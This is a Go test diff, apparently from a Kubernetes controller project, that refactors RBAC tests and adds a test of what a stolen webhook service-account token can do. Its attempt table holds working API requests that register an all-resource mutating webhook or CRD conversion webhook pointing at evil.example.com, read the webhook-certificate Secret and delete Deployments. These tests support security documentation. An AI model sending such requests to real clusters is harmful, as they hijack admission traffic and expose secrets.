@@ -28,6 +28,7 @@ import (
 	"testing"
 
 	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/util/sets"
 	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 )
@@ -57,9 +58,7 @@ func TestWebhookVariants(t *testing.T) {
 func TestWebhooksForAllSets(t *testing.T) {
 	t.Parallel()
 	text, err := os.ReadFile(filepath.Join(shared.root, "docs/scale.md"))
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	_, after, _ := strings.Cut(string(text), "\n### Webhooks for all sets\n")
 	_, after, _ = strings.Cut(after, "\n\n    ")
 	commands, _, ok := strings.Cut(after, "\n    kubectl apply ")
@@ -78,36 +77,31 @@ func TestWebhooksForAllSets(t *testing.T) {
 // updateCRD is the right that the webhooks use while the CRD names a conversion webhook.
 const updateCRD = "update apiextensions.k8s.io/customresourcedefinitions"
 
-// webhookRules returns the rules of the webhooks' service account, each with one right.
-func webhookRules(t *testing.T) []rbacv1.PolicyRule {
-	t.Helper()
-	rules := variantRules(t, "with-webhook")[webhookAccount]
-	if len(rules) == 0 {
-		t.Fatal("the service account of the webhooks has no rights")
-	}
-	return rules
-}
-
-// missWebhookRights runs the webhooks for each of their rights, as TestEveryRightIsMissed runs the
-// controllers, but for updateCRD.
-func missWebhookRights(t *testing.T) {
-	rules := webhookRules(t)
+// missWebhookRights runs the webhooks for updateCRD, or at the same time for each other of their rights, as
+// TestEveryRightIsMissed runs the controllers.
+func missWebhookRights(t *testing.T, ofCRD bool) {
+	rules, missed := variantRules(t, "with-webhook")[webhookAccount], 0
 	for i, rule := range rules {
-		if ruleRight(rule) == updateCRD {
+		if (ruleRight(rule) == updateCRD) != ofCRD {
 			continue
 		}
+		missed++
 		t.Run("webhooks: "+ruleRight(rule), func(t *testing.T) {
-			t.Parallel()
+			if !ofCRD {
+				t.Parallel()
+			}
 			missWebhookRight(t, rules, i)
 		})
 	}
+	if missed == 0 {
+		t.Fatal("the service account of the webhooks has no such right")
+	}
 }
 
-// missingRight is missWebhookRights for updateCRD.
+// missingRight is the test of updateCRD, while the CRD names the webhook.
 func (w *webhookEnv) missingRight(t *testing.T) {
 	createAccountsNamespace(t)
-	rules := webhookRules(t)
-	missWebhookRight(t, rules, slices.IndexFunc(rules, func(rule rbacv1.PolicyRule) bool { return ruleRight(rule) == updateCRD }))
+	missWebhookRights(t, true)
 }
 
 // missWebhookRight runs the webhooks without the right of rule i, and waits until the API server
@@ -144,7 +138,53 @@ func missWebhookRight(t *testing.T, rules []rbacv1.PolicyRule, i int) {
 		" --leader-elect-resource-namespace=%s --webhook-secret=%s --webhook-configuration=%[3]s --metrics-bind-address=127.0.0.1:0",
 		kubeconfigOf(t, &clientcmdapi.AuthInfo{Token: token}), e.namespace, own))
 	e.controller.awaitServing("metrics")
-	e.eventually("the API server refuses to "+missing, func(ctx context.Context) error {
-		return e.refused(ctx, user, token, missing)
-	})
+	e.eventually("the API server refuses to "+missing, func(context.Context) error { return e.refused(user, token, missing) })
+}
+
+// webhookAttempts take the rights to keep the certificate of the webhooks.
+func webhookAttempts() []attempt {
+	const evil = `{"clientConfig":{"url":"https://evil.example.com/","service":null}`
+	const conversion = `{"spec":{"conversion":{"strategy":"Webhook","webhook":` + evil + `,"conversionReviewVersions":["v1"]}}}}`
+	const crds, secrets = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/", "/api/v1/namespaces/HOME/secrets"
+	return []attempt{
+		{"register a server of their own as an admission webhook for all resources",
+			"PUT /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + webhookAccount,
+			`{"webhooks":[` + evil + `,"name":"a.example.com","sideEffects":"None","admissionReviewVersions":["v1"],` +
+				`"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}]}]}`},
+		{"change the CRD of Foos", "PUT " + crds + "foos.samplecontroller.k8s.io", conversion},
+		{"change another CRD", "PUT " + crds + "memcacheds.cache.example.com", conversion}, // +drop:memcached
+		{"read the Secret with the certificate of the webhooks", "GET " + secrets + "?fieldSelector=metadata.name=" + webhookAccount, ""},
+		{"create a Secret in the controller's namespace", "POST " + secrets, "{metadata: {name: evil}}"},
+		{"read all Foos and Deployments", "GET /apis/samplecontroller.k8s.io/v1alpha1/foos /apis/apps/v1/deployments", ""},
+		{"create, change or delete a Deployment", "DELETE " + deploymentsPath + "/x", ""},
+	}
+}
+
+// stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
+// program keeps the certificate and where cert-manager does. The table of docs/security.md is its
+// result.
+func (w *webhookEnv) stolenToken(t *testing.T) {
+	e := newEnv(t)
+	// The controller of walkthrough 5 syncs all namespaces.
+	e.create("x")
+	e.awaitReady("x")
+	account := func(namespace, roles string) *attacker {
+		e.Helper()
+		attacker := newAttacker(e, systemNamespace, namespace, webhookAccount)
+		e.eventually("the token has the rights of "+roles, func(ctx context.Context) error {
+			_, err := attacker.kube.AppsV1().Deployments(e.namespace).List(ctx, metav1.ListOptions{})
+			return err
+		})
+		return attacker
+	}
+	own := account(systemNamespace, "with-webhook")
+	// With cert-manager the manifests bind one role.
+	binding := e.namespace + "-lookups"
+	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
+	sh(t, fmt.Sprintf("kubectl create serviceaccount %[2]s --namespace=%[3]s && kubectl create clusterrolebinding %[1]s --clusterrole=%[2]s-lookups --serviceaccount=%[3]s:%[2]s", binding, webhookAccount, e.namespace))
+	shOnCleanup(t, fmt.Sprintf("kubectl delete serviceaccount %s --namespace=%s", webhookAccount, e.namespace))
+	certManager := account(e.namespace, "with-webhook-cert-manager")
+	for _, a := range slices.Concat(webhookAttempts(), otherAttempts()) {
+		mustDocument(t, a.what, own.succeeds(a), certManager.succeeds(a))
+	}
 }
